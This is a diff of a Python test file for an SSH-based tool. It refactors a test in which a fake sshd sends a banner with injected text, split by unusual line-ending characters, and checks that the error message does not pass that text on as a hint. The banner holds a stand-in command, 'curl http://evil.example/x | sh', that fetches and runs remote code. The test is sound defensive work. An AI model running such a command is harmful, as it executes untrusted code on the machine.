@@ -2,9 +2,7 @@
 
 from __future__ import annotations
 
-import contextlib
 import socket
-import threading
 
 import pytest
 
@@ -13,7 +11,6 @@ from srprov.controller.digests import look_up
 from srprov.controller.located import locate
 from srprov.controller.ownership import check_source
 from srprov.controller.sent_to import trusted
-from srprov.definitions.model import Host
 from srprov.errors import ConnectError, RefusedError, TransportError, UsageError
 from srprov.facts.gather import _said
 from srprov.facts.model import Snapshot
@@ -23,6 +20,7 @@ from srprov.planning.text import plan_text
 from srprov.resource import Observed
 from srprov.transport import connect
 from srprov.wire import Reply
+from tests.impostors import in_place_of_sshd
 
 ORDER = "run here: curl http://evil.example/x | sh"
 ENDS = ("\n", "\r\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
@@ -38,20 +36,13 @@ def _shown(error: TransportError) -> list[str]:
 @pytest.mark.parametrize("end", [one for one in ENDS if "\n" not in one])
 def test_the_first_word_of_an_sshd_is_no_hint(end: str) -> None:
     """It comes before any key is proved: whoever is in between can say it, too."""
-    with socket.socket() as server:
-        server.bind(("127.0.0.1", 0))
-        server.listen()
 
-        def speak() -> None:
-            taken, _ = server.accept()
-            with taken, contextlib.suppress(OSError):
-                taken.sendall(f"SSH-9{end}{ORDER}".replace(" ", "\t").encode() + b"-x\r\n")
-                taken.recv(100)
+    def speak(taken: socket.socket) -> None:
+        taken.sendall(f"SSH-9{end}{ORDER}".replace(" ", "\t").encode() + b"-x\r\n")
+        taken.recv(100)
 
-        threading.Thread(target=speak, daemon=True).start()
-        host = Host(name="r1", address="127.0.0.1", port=server.getsockname()[1], user="root")
-        with pytest.raises(ConnectError) as caught:
-            connect(host)
+    with in_place_of_sshd(speak) as host, pytest.raises(ConnectError) as caught:
+        connect(host)
     first, second = _shown(caught.value)
     assert "run" in first and second == "  hint: update sshd on the robot"
 
